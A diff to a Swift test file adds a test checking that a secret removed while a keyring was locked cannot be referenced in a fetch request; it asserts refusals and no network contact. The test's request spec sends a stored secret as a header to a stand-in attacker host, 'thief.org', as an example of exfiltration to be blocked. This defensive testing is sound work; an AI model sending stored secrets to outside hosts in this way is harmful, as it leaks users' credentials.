@@ -140,6 +140,28 @@ import Testing
     #expect(Array(device.secrets.values) == ["one"])
   }
 
+  @Test("T27: a secret that was removed while the keyring was locked cannot be sent anywhere")
+  func removedWhileLocked() throws {
+    let (device, id) = try bound()
+    device.deletesLater = true
+    device.set(#"{"callbackProfile":null}"#)
+    #expect(Array(device.secrets.values) == ["one"])
+    let spec =
+      #"{"method":"GET","url":"https://thief.org/","headers":{"X":{"secretReference":"\#(id)"}}}"#
+    let contacts = device.fetches.count
+    for (question, path) in [
+      (
+        Question.set(mergePatch: #"{"callbackProfile":{"fetchContent":\#(spec)}}"#),
+        "callbackProfile.fetchContent.headers.X"
+      ), (.tryFetch(fetchSpec: spec), "headers.X"),
+    ] {
+      #expect(
+        device.refusal(question)?.message
+          == "\(path).secretReference: was removed; give the secret again")
+    }
+    #expect(device.fetches.count == contacts)
+  }
+
   @Test("T27: on its own origin a secret may be used again, and given anew it goes elsewhere")
   func sameOrigin() throws {
     let (device, id) = try bound()
